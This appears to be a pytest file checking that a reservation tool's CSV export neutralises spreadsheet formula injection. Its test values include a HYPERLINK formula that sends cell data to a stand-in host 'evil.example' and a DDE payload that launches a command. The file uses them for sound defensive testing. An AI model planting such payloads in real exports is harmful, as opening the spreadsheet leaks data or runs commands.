"""Every `--csv` export goes through one writer that a spreadsheet cannot be made to run
(DESIGN §3): a cell of text starting with `=`, `+`, `-`, `@`, tab or CR gets a `'` in front."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine

from azctl.commands.output import csv_cell, csv_text
from azctl.models import Reservation
from tests.commands.helpers import Cli, succeeded

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

CELLS = [
    # Text a spreadsheet would run: prefixed, whatever follows.
    (HYPERLINK, "'" + HYPERLINK),
    ("=1+1", "'=1+1"),
    ("+39 02 1234", "'+39 02 1234"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("-3", "'-3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("'=1+1", "'=1+1"),
    # Text that is safe: as it is, even with a dangerous character further in.
    ("Giulia Bianchi", "Giulia Bianchi"),
    ("Anna = Verdi", "Anna = Verdi"),
    ("a-b@example.org", "a-b@example.org"),
    (" =1+1", " =1+1"),
    ("", ""),
    ("AZ-7KQ4M2", "AZ-7KQ4M2"),
    # Real numbers are numbers, not text anybody typed: written as they are.
    (-3, "-3"),
    (0, "0"),
    (42, "42"),
    (-1.5, "-1.5"),
    (Decimal("-2.50"), "-2.50"),
    # Booleans and None.
    (True, "true"),
    (False, "false"),
    (None, ""),
]


@pytest.mark.parametrize(("value", "written"), CELLS)
def test_the_cell_rule(value: object, written: str):
    assert csv_cell(value) == written


def test_the_writer_applies_the_rule_to_every_cell_and_quotes_as_csv_does():
    text = csv_text(
        [{"name": HYPERLINK, "seats": -3, "in": True, "note": None, "extra": "dropped"}],
        ["name", "seats", "in", "note"],
    )
    assert (
        text
        == 'name,seats,in,note\n"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-3,true,\n'
    )
    assert list(csv.reader(io.StringIO(text)))[1] == ["'" + HYPERLINK, "-3", "true", ""]


def test_a_cell_with_a_line_break_inside_is_quoted_and_read_back_whole():
    cells = ["a\rb", "c\nd", "e\r\nf"]
    text = csv_text([dict(zip("xyz", cells, strict=True))], ["x", "y", "z"])
    assert text.endswith("\n") and not text.endswith("\r\n")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["x", "y", "z"], cells]


# Every dangerous leading character, in a visitor's name. Tab and CR are stripped by the input
# checks, so those two rows are written into the database directly (as an old version or a
# hand-made fix might have left them): the writer does not rely on the input checks.
TYPED_NAMES = [HYPERLINK, "+39 333 1234567", "-1+1", "@SUM(A1:A9)"]
WRITTEN_NAMES = ["\t=1+1", "\r=2+2"]


def _with_names(engine: Engine, references: list[str], names: list[str]) -> None:
    with engine.begin() as connection:
        for reference, name in zip(references, names, strict=True):
            connection.execute(
                sa.update(Reservation).where(Reservation.reference == reference).values(name=name)
            )


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_res_list_csv_neutralises_formulas_in_what_visitors_typed(
    cli: Cli, engine: Engine, make_performance, book
):
    performance = make_performance(capacity=50)
    typed = [
        book(performance, 1, name=name, notes=name, phone="+39 02 1234").reservation.reference
        for name in TYPED_NAMES
    ]
    written = [book(performance, 1).reservation.reference for _ in WRITTEN_NAMES]
    _with_names(engine, written, WRITTEN_NAMES)

    rows = _csv_rows(succeeded(cli("res", "list", "--csv")).stdout)
    by_reference = {row["reference"]: row for row in rows}
    assert len(by_reference) == len(TYPED_NAMES) + len(WRITTEN_NAMES)
    for reference, name in zip(typed + written, TYPED_NAMES + WRITTEN_NAMES, strict=True):
        assert by_reference[reference]["name"] == "'" + name
    for reference, name in zip(typed, TYPED_NAMES, strict=True):
        row = by_reference[reference]
        assert (row["notes"], row["phone"]) == ("'" + name, "'+39 02 1234")
        assert (row["party_size"], row["checked_in"], row["checked_in_at"]) == ("1", "false", "")


def test_checkin_list_csv_neutralises_formulas_in_names(
    cli: Cli, engine: Engine, make_performance, confirmed
):
    performance = make_performance(capacity=50)
    names = TYPED_NAMES + WRITTEN_NAMES
    references = [
        confirmed(performance, 1, name=name).reservation.reference for name in TYPED_NAMES
    ] + [confirmed(performance, 1).reservation.reference for _ in WRITTEN_NAMES]
    _with_names(engine, references[len(TYPED_NAMES) :], WRITTEN_NAMES)
    for reference in references:
        succeeded(cli("checkin", "manual", reference, "--perf", str(performance.id)))

    rows = _csv_rows(
        succeeded(cli("checkin", "list", "--perf", str(performance.id), "--csv")).stdout
    )
    assert {row["reference"]: row["name"] for row in rows} == {
        reference: "'" + name for reference, name in zip(references, names, strict=True)
    }
    assert {row["party_size"] for row in rows} == {"1"}
